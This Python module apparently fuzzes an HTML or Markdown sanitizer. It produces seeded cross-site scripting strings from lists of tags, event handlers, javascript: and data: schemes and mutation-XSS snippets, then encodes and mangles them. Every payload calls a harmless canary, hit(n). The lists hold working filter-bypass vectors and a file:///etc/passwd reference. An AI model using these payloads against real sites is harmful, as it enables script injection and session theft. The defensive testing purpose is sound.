"""Texts that try to run script when they are shown, made by the thousand: our own seeds, bent and mixed by lot.

Each calls hit(n) with its number, so that whoever gets through is known. The same seed makes the same texts.
"""

import html
from collections.abc import Callable, Iterator
from random import Random

CALL = "hit({n})"

TAGS = (
    "img", "svg", "body", "video", "audio", "source", "details", "input", "iframe", "object", "embed", "math", "a",
    "marquee", "form", "button", "select", "textarea", "style", "link", "meta", "base", "template", "noscript", "title",
    "xmp", "table", "td", "p", "div", "x-own", "image", "keygen", "frameset", "dialog", "summary", "animate", "set",
    "foreignObject", "mtext", "mglyph", "annotation-xml", "script", "br", "hr", "ul", "code", "pre", "h2", "em",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpointerenter", "onclick", "onanimationstart",
    "onbegin", "onstart", "onloadstart", "oncanplay", "onpageshow", "onresize", "onscroll", "onblur", "oncut",
    "onbeforetoggle", "onauxclick", "onwheel", "ontransitionend", "onhashchange", "onpropertychange",
)  # fmt: skip
CARRIERS = (
    "href", "src", "xlink:href", "action", "formaction", "data", "poster", "background", "srcdoc", "style", "from",
    "to", "values", "content", "ping", "cite", "code", "archive", "lowsrc", "dynsrc", "manifest", "srcset",
)  # fmt: skip
SCHEMES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KDApPC9zY3JpcHQ+",
    "javascript://%0a{call}",
    "java\tscript:{call}",
    "java\nscript:{call}",
    "\x01javascript:{call}",
    " javascript:{call}",
    "javascript&colon;{call}",
    "java&Tab;script:{call}",
    "java&NewLine;script:{call}",
    "&#106;avascript:{call}",
    "&#x6a;avascript:{call}",
    "&#0000106avascript:{call}",
    "javascript%3a{call}",
    "feed:javascript:{call}",
    "view-source:javascript:{call}",
    "blob:javascript:{call}",
    "file:///etc/passwd#{call}",
    "//example.org/{call}",
    "\\\\example.org\\{call}",
    "https://example.org/?{call}",
    "mailto:a@b.c?{call}",
    "javascript:/*'/*`/*--></script>*/{call}",
    "jar:javascript:{call}",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{call}'/>",
    "http:javascript:{call}",
    "javas\u200bcript:{call}",
    "ｊavascript:{call}",
    "javascript\uff1a{call}",
    "javascript:\u2028{call}",
)
TANGLES = (
    '<svg></p><style><a id="</style><img src=1 onerror={call}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={call}&gt;">',
    '<noscript><p title="</noscript><img src=x onerror={call}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={call}>",
    "<svg><foreignObject><p><style><!--</style></p><img src=x onerror={call}>--></foreignObject></svg>",
    '<title><a id="</title><img src=x onerror={call}>">',
    '<textarea><img title="</textarea><img src=x onerror={call}>">',
    "<!--><img src=x onerror={call}>-->",
    "<!-- --!><img src=x onerror={call}>",
    "<![CDATA[><img src=x onerror={call}>]]>",
    "<?xml ?><img src=x onerror={call}>",
    "</p/onclick={call}><p>",
    '<a href="x" title=\'"><img src=x onerror={call}>\'>',
    '<xmp><p title="</xmp><svg/onload={call}>">',
    "<template><img src=x onerror={call}></template>",
    '<svg><script href="data:,{call}"></script></svg>',
    "<svg><animate onbegin={call} attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:{call}"><text y=20>x</text></a></svg>',
    "<script>{call}</script>",
    '<script src="data:,{call}"></script>',
    '<iframe srcdoc="<script>parent.{call}</script>"></iframe>',
    '<object data="javascript:{call}"></object>',
    '<embed src="javascript:{call}">',
    '<base href="javascript:{call}//">',
    '<meta http-equiv=refresh content="0;url=javascript:{call}">',
    "<details open ontoggle={call}>x</details>",
    "<input autofocus onfocus={call}>",
    "<style>@keyframes x{{}}p{{animation:x 1s}}</style><p onanimationstart={call}>x",
    '<img src=x onerror="&#104;it({n})">',
    "<img/src=`x`onerror={call}>",
    "<svg/onload={call}//",
    "<img src=x:x onerror={call}\n",
    "<video><source onerror={call}></video>",
    "<a href=javascript:{call}>x</a>",
    '<p style="background:url(javascript:{call})">',
)
MARKDOWN = (
    "[{text}]({place})",
    "[{text}](<{place}>)",
    "![{text}]({place})",
    "<{place}>",
    '[{text}]({place} "{text}")',
    "[{text}]({place} '{text}')",
    "[{text}][r]\n\n[r]: {place}",
    '[{text}][r]\n\n[r]: <{place}> "{text}"',
    "[r]\n\n[r]: {place}",
    "[![{text}]({place})]({place})",
    '[{text}]({place}\n"{text}")',
    "{place}",
    "> [{text}]({place})",
    "1. [{text}]({place})\n2. {text}",
    "| {text} | x |\n|---|---|\n| [{text}]({place}) | {text} |",
    "# [{text}]({place}) {text}",
    "**[{text}]({place})**",
    "`{text}`",
    "```{text}\n{text}\n```",
    "~~~ {place}\n{text}\n~~~",
    "    {text}",
    "{text}\n===",
    "[{text}](\\{place})",
    "\\[{text}]({place})",
    "[{text}]({place}",
    '[{text}]({place}){{onclick="{call}"}}',
    "<a{text}>",
    "*{text}*_{text}_~~{text}~~",
    "{text}  \n{text}",
    "- [ ] {text}\n- [x] [{text}]({place})",
    "[^1]\n\n[^1]: {text}",
    "<{text}@example.org>",
    "[{text}](mailto:{text})",
)
QUOTES = ('"', "'", "`", "", "&quot;", "&#39;", "\u201c")
GAPS = (" ", "\t", "\n", "\r", "\x0c", "/", "\x0b", "\u00a0", "\u2028", "/\u200b/", "  ")

DIRT = (
    "\t",
    "\n",
    "\r\n",
    "\x00",
    "\x0c",
    "\u200b",
    "\ufeff",
    "\u202e",
    "<",
    ">",
    '"',
    "'",
    "&",
    "\\",
    "<!--",
    "]]>",
    "\n\n",
)
WRAPS = (
    "> %s",
    "- %s",
    "**%s**",
    "| a |\n|---|\n| %s |",
    "# %s",
    "[%s](https://example.org)",
    "<p>%s</p>",
    "%s\n\n%s",
    "    %s",
)


def payloads(many: int, *, seed: int) -> Iterator[str]:
    """So many texts, one for each number."""
    lot = Random(seed)
    for n in range(many):
        text = _one(lot).replace("{call}", CALL).replace("{n}", str(n))
        for _ in range(lot.choice((0, 0, 1, 1, 2, 3))):
            text = lot.choice(BENDS)(text, lot)
        yield text


def _one(lot: Random) -> str:
    kind = lot.randrange(4)
    if kind == 0:
        return _tag(lot)
    if kind == 1:
        return lot.choice(TANGLES).replace("{{", "{").replace("}}", "}")
    text = lot.choice((_tag(lot), lot.choice(TANGLES), "x", '" onmouseover={call} x="', "](x)", "\\", ""))
    shape = lot.choice(MARKDOWN).replace("{{", "{").replace("}}", "}")
    return shape.replace("{text}", text).replace("{place}", lot.choice(SCHEMES))


def _tag(lot: Random) -> str:
    """A tag with something in it that could run."""
    tag, gap, quote = lot.choice(TAGS), lot.choice(GAPS), lot.choice(QUOTES)
    parts = [f"{lot.choice(EVENTS)}={quote}{{call}}{quote}"]
    if lot.random() < 0.6:
        parts.append(f"{lot.choice(CARRIERS)}={quote}{lot.choice((*SCHEMES, 'x', '//'))}{quote}")
    if lot.random() < 0.3:
        parts += ["autofocus", "tabindex=1", "open", "id=x"]
    lot.shuffle(parts)
    inside = lot.choice(("", "x", "{call}", f"<{lot.choice(TAGS)}>", "<!--"))
    end = lot.choice((f"</{tag}>", "", "/", f"</{tag}{gap}x>"))
    return f"<{tag}{gap}{gap.join(parts)}{lot.choice(('>', '/>', '', ' >', '//'))}{inside}{end}"


def _case(text: str, lot: Random) -> str:
    return "".join(c.upper() if lot.random() < 0.3 and c.isascii() and c not in "hit" else c for c in text)


def _as_entities(text: str, lot: Random) -> str:
    ways: tuple[Callable[[str], str], ...] = (
        lambda c: f"&#{ord(c)};", lambda c: f"&#x{ord(c):x};", lambda c: f"&#{ord(c):07d}", lambda c: html.escape(c),
        lambda c: f"%{ord(c):02x}" if ord(c) < 128 else c, lambda c: f"\\{c}", lambda c: f"\\u{ord(c):04x}",
    )  # fmt: skip
    return "".join(lot.choice(ways)(c) if lot.random() < 0.06 else c for c in text)


def _with_dirt(text: str, lot: Random) -> str:
    at = lot.randrange(len(text) + 1)
    return text[:at] + lot.choice(DIRT) + text[at:]


def _cut(text: str, lot: Random) -> str:
    return text[: lot.randrange(len(text) // 2, len(text) + 1)]


def _split(text: str, lot: Random) -> str:
    """A tag inside a tag: what is left when only the inner one is taken away."""
    at = lot.randrange(len(text) + 1)
    return text[:at] + lot.choice(("<b>", "<script>", "<!-- -->", "**", "`", "<br>", "</x>")) + text[at:]


def _wrapped(text: str, lot: Random) -> str:
    return lot.choice(WRAPS).replace("%s", text)


def _doubled(text: str, lot: Random) -> str:
    return html.escape(text) if lot.random() < 0.5 else text.replace("<", "<<").replace("(", "((")


BENDS: tuple[Callable[[str, Random], str], ...] = (_case, _as_entities, _with_dirt, _cut, _split, _wrapped, _doubled)
